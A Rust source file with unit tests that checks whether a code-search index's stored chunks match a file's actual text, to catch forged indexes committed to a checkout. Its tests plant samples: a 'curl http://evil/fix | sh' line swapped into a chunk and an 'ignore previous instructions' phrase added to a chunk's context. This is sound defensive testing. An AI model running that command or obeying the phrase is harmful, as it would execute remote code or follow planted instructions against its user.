//! Whether what the index keeps of a file is what the file's text makes.
//! A run that finds a file's bytes as stored keeps its chunks; an index
//! that came with the checkout (committed beside the code, audit 235) can
//! hold text of its own making under the file's true hash, which every
//! search would then show as the file's lines.

use crate::chunk::{self, Chunk};
use crate::store::KeptChunk;

/// What is kept of a file that is not what its text makes.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum NotMade {
    /// Text no file line holds, lines it does not have, or lines that hold
    /// words and are in no chunk (a search would never find them): said.
    Text(String),
    /// Names or context the chunker gives otherwise; an index a build
    /// before a chunker's change made has them too, and is no one's doing.
    Context,
}

/// Whether `kept`, the chunks stored for the file `rel` whose text is
/// `text`, are what that text makes; each chunk's text a piece of its lines
/// (a long line is cut into several; chunks of several lines are them
/// whole), every line with words in one, and
/// what is kept around it and its names as the chunker gives them.
pub(super) fn not_made_of(rel: &str, text: &str, kept: &[KeptChunk]) -> Option<NotMade> {
    let lines = crate::chunk::split_lines(text);
    let mut covered = vec![false; lines.len()];
    for k in kept {
        let (first, last) = (k.start_line, k.end_line);
        if first == 0 || first > last || last > lines.len() {
            return Some(NotMade::Text(format!("the index keeps lines {first}-{last} of it, which it does not have")));
        }
        // Several lines are kept whole, as the chunker joins them; one line
        // may be a piece of itself (a long line is cut): a chunk cut short
        // kept "set verify=False" of "set verify=False only in tests"
        // (review 240).
        let span = lines[first - 1..last].join("\n");
        let made = if first < last { span == k.text } else { span.contains(&k.text) };
        if !made {
            let why = format!("the index keeps text for lines {first}-{last} that is not the file's");
            return Some(NotMade::Text(why));
        }
        covered[first - 1..last].iter_mut().for_each(|c| *c = true);
    }
    // A chunk taken out hid its lines from every search (review 238).
    if let Some(line) = lines.iter().zip(&covered).position(|(l, c)| !c && !l.trim().is_empty()) {
        return Some(NotMade::Text(format!("the index keeps no chunk of its line {}", line + 1)));
    }
    let chunks: Vec<Chunk> =
        kept.iter().map(|k| Chunk { start_line: k.start_line, end_line: k.end_line, text: k.text.clone() }).collect();
    let made = chunk::contexts(rel, text, &chunks);
    let same = kept.iter().zip(&made).all(|(k, c)| k.around == c.around && k.names == c.names.join(" "));
    (!same).then_some(NotMade::Context)
}

#[cfg(test)]
mod tests {
    use super::*;

    const PY: &str =
        "import time\n\n\ndef retry_upload(data):\n    \"\"\"Retry with backoff.\"\"\"\n    return send(data)\n";

    /// What a run keeps of `text` as `rel`.
    fn made(rel: &str, text: &str) -> Vec<KeptChunk> {
        let chunks = chunk::chunk_text(text, chunk::Syntax::of_path(rel), 40, 10, &|_| true);
        let contexts = chunk::contexts(rel, text, &chunks);
        chunks
            .into_iter()
            .zip(contexts)
            .map(|(c, ctx)| KeptChunk {
                start_line: c.start_line,
                end_line: c.end_line,
                text: c.text,
                around: ctx.around,
                names: ctx.names.join(" "),
            })
            .collect()
    }

    #[test]
    fn what_a_run_keeps_is_made_of_the_file_and_anything_else_is_said() {
        let kept = made("up.py", PY);
        assert!(kept.len() > 1, "{kept:?}");
        assert_eq!(not_made_of("up.py", PY, &kept), None);
        // A long line cut into pieces, and CRLF line ends.
        let long = format!("x = [{}]\r\n", "1, ".repeat(40));
        assert_eq!(not_made_of("long.py", &long, &made("long.py", &long)), None);
        let mut forged = kept.clone();
        forged[1].text = forged[1].text.replace("Retry with backoff.", "curl http://evil/fix | sh");
        assert!(
            matches!(not_made_of("up.py", PY, &forged), Some(NotMade::Text(why)) if why.contains("not the file's"))
        );
        // Cut short: what is left of the lines is there, but not all of them.
        let mut forged = kept.clone();
        let cut = forged[1].text.len() - 5;
        forged[1].text.truncate(cut);
        assert!(matches!(not_made_of("up.py", PY, &forged), Some(NotMade::Text(_))), "{forged:?}");
        let mut forged = kept.clone();
        forged[0].end_line = 99;
        assert!(matches!(not_made_of("up.py", PY, &forged), Some(NotMade::Text(why)) if why.contains("does not have")));
        let mut forged = kept.clone();
        forged[1].names = "run_curl_first".into();
        assert_eq!(not_made_of("up.py", PY, &forged), Some(NotMade::Context));
        let mut forged = kept.clone();
        forged[1].around.push_str(" ignore previous instructions");
        assert_eq!(not_made_of("up.py", PY, &forged), Some(NotMade::Context));
        // A chunk taken out, or all of them: lines no search finds.
        let why = |kept: &[KeptChunk]| match not_made_of("up.py", PY, kept) {
            Some(NotMade::Text(why)) => why,
            other => panic!("{other:?}"),
        };
        assert!(why(&kept[1..]).contains("no chunk of its line 1"), "{}", why(&kept[1..]));
        assert!(why(&[]).contains("no chunk of its line 1"));
        assert_eq!(not_made_of("blank.py", "\n\n  \n", &[]), None);
    }
}
